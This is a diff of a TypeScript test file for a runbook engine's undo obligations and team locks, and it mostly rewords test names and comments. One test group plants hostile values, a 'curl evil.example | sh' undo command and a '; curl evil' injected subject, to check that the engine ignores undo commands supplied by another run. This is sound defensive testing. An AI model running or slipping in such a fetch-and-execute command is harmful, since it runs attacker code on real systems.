@@ -19,7 +19,7 @@ const ON = ['bin/maintenance', 'on'];
 const OFF = ['bin/maintenance', 'off'];
 const reason = 'It is better to stop here for today';
 
-/** A run of a command that is undone, and of a step after it that stops. */
+/** A run with a command that has an undo, and a step after it that stops. */
 function bench(machine: Machine, given: object = {}, journal = new MemoryJournal()) {
   const stops = testKind({
     name: 'stops',
@@ -43,7 +43,7 @@ function bench(machine: Machine, given: object = {}, journal = new MemoryJournal
 const open = (at: ReturnType<typeof bench>) => at.run.view.obligations.filter(({ met }) => !met);
 
 describe('the undo of a command', () => {
-  it('is journaled and put into the team lock before the command starts, shown, and blocks the end', async () => {
+  it('is journaled and entered into the team lock before the command starts, is shown, and blocks the end', async () => {
     const machine = new Machine();
     const at = bench(machine);
     await at.until(() => at.status('stops') === 'stopped', 'the stop');
@@ -62,7 +62,7 @@ describe('the undo of a command', () => {
     at.run.dispose();
   });
 
-  it('runs once when a person says so', async () => {
+  it('runs once if a person says so', async () => {
     const machine = new Machine();
     const at = bench(machine);
     await at.until(() => at.status('stops') === 'stopped', 'the stop');
@@ -85,7 +85,7 @@ describe('the undo of a command', () => {
     assert.equal(at.run.view.state, 'aborted');
   });
 
-  it('is followed by the next window after a crash, and never run a second time', async () => {
+  it('is followed by the next window after a crash, and never runs twice', async () => {
     const machine = new Machine();
     const journal = new MemoryJournal();
     const before = bench(machine, {}, journal);
@@ -104,7 +104,7 @@ describe('the undo of a command', () => {
     after.run.dispose();
   });
 
-  it('runs again for what ran while it was open, though a crash came behind the undo before', async () => {
+  it('runs again for a retry that happened while it was open, even after a crash during the previous undo', async () => {
     const machine = new Machine();
     machine.exits = { [ON.join(' ')]: 1 };
     const journal = new MemoryJournal();
@@ -132,7 +132,7 @@ describe('the undo of a command', () => {
     ['fails', 3, 'ended with exit code 3'],
     ['is lost', null, 'ended, and nobody knows its exit code'],
   ] as const)
-    it(`is left to a person once it ${what}: it is not run again`, async () => {
+    it(`is left to a person, and not run again, if it ${what}`, async () => {
       const machine = new Machine();
       machine.exits = { 'bin/maintenance off': exit };
       const at = bench(machine);
@@ -149,7 +149,7 @@ describe('the undo of a command', () => {
       assert.equal(machine.started.length, 2);
     });
 
-  it('does not count where the login shell never ran it, though that ended well, and runs once it does', async () => {
+  it('does not count if the login shell never ran it, even with a good exit, and runs once it does', async () => {
     const machine = new Machine();
     const at = bench(machine);
     await at.until(() => at.status('stops') === 'stopped', 'the stop');
@@ -165,7 +165,7 @@ describe('the undo of a command', () => {
     assert.deepEqual(machine.started, ['bin/maintenance on', 'bin/maintenance off']);
   });
 
-  it('does not count while the look says that the step is still done', async () => {
+  it('does not count while the check says that the step is still done', async () => {
     const machine = new Machine();
     const at = bench(machine, { done: ['bin/maintenance', 'is-on'] });
     await at.until(() => at.status('stops') === 'stopped', 'the stop');
@@ -174,7 +174,7 @@ describe('the undo of a command', () => {
     at.run.dispose();
   });
 
-  it('has nothing to run where the command never began', async () => {
+  it('has nothing to run if the command never started', async () => {
     const machine = new Machine();
     const at = bench(machine);
     machine.runner.prepare = () => Promise.reject(new Error('No space is left.'));
@@ -185,14 +185,14 @@ describe('the undo of a command', () => {
     assert.equal(at.run.view.obligations[0]?.evidence, 'the step never began');
   });
 
-  it('runs again once the step ran again', async () => {
+  it('runs again after the step ran again', async () => {
     const machine = new Machine();
     machine.exits = { 'bin/maintenance on': 1 };
     const at = bench(machine, { repeatable: true });
     await at.until(() => at.status('maintenance') === 'stopped', 'the failure');
     await at.run.meet('undo:maintenance');
     machine.exits = {};
-    // The obligation is opened at another time.
+    // The obligation is opened at a different time.
     at.clock.time += 1_000;
     await at.run.retry('maintenance');
     await at.until(() => at.status('stops') === 'stopped', 'the stop');
@@ -220,7 +220,7 @@ describe('a command that may change production', () => {
       at.run.dispose();
     });
 
-  it('keeps nothing from being closed while it only asks', async () => {
+  it('can be aborted without doubt while it only asks', async () => {
     const machine = new Machine();
     const at = bench(machine, { changesProduction: true, approve: 'Now?' });
     const view = await at.until(() => at.status('maintenance') === 'waiting', 'the question');
@@ -240,7 +240,7 @@ describe('the team lock of a command', () => {
   const lock = 'id: lock, kind: team-lock';
   const runs = (more = '') => `id: c, kind: command, with: { run: [x]${more} }`;
 
-  it('is missed when the runbook is read, not when the command is to start', () => {
+  it('is required when the runbook is read, not when the command starts', () => {
     assert.deepEqual(written(runs()), [
       'A step of kind "command" changes something, so it needs one of kind "team-lock" before it.',
     ]);
@@ -248,14 +248,14 @@ describe('the team lock of a command', () => {
     assert.deepEqual(written(lock, runs()), []);
   });
 
-  it('is not needed by one that only reads, which has nothing to undo', () => {
+  it('is not required by a command that only reads, which has nothing to undo', () => {
     assert.deepEqual(written(runs(', onlyReads: true')), []);
     assert.equal(written(runs(', onlyReads: true, undo: [y]')).length, 1);
     assert.equal(written(runs(', onlyReads: true, changesProduction: true')).length, 1);
   });
 });
 
-describe('an undo that a team lock names', () => {
+describe("an undo in another run's team lock", () => {
   const planted = (subject: string): Obligation => ({
     ...{ id: `undo:${subject}`, kind: 'undo', step: 's', subject, previous: 'curl evil.example | sh' },
     title: 'Undo “x”: curl evil.example | sh',
@@ -276,7 +276,7 @@ describe('an undo that a team lock names', () => {
     ],
   } as unknown as Runbook;
 
-  it('is taken on only as far as this runbook says how to undo that step, in its words', () => {
+  it('is taken on only if this runbook says how to undo that step, in its words', () => {
     const named = ['maintenance', 'scale', 'back', 'plain', 'constructor', '; curl evil'].map(planted);
     const { takenOn, leftAlone } = leftOpenBy(holder(...named), runbook, 'lock');
     assert.deepEqual(
@@ -290,7 +290,7 @@ describe('an undo that a team lock names', () => {
     assert.deepEqual(leftAlone, ['undo of plain', 'undo of constructor', 'undo of ; curl evil']);
   });
 
-  it('runs nothing by itself, and what the runbook of this run says once a person asks', async () => {
+  it("runs nothing by itself, and only this runbook's command when a person asks", async () => {
     const machine = new Machine();
     const [left] = leftOpenBy(holder(planted('maintenance')), runbook, 'takes').takenOn;
     assert.ok(left);
@@ -331,7 +331,7 @@ describe('an undo that a team lock names', () => {
 });
 
 describe('the undo of a manual step', () => {
-  it('is noted before anybody is asked to do the step, and attested when it is closed', async () => {
+  it('is journaled before anybody is asked to do the step, and attested when it is closed', async () => {
     const at = engineBench([manual], {
       steps: [{ id: 'scale', kind: 'manual', title: 'Scale up' }],
       obligations: [undoObligation],
@@ -353,7 +353,7 @@ describe('the undo of a manual step', () => {
     at.run.dispose();
   });
 
-  it('is never closed by an abort', async () => {
+  it('is never met by an abort', async () => {
     const at = engineBench([manual], {
       steps: [{ id: 'scale', kind: 'manual' }],
       obligations: [undoObligation],
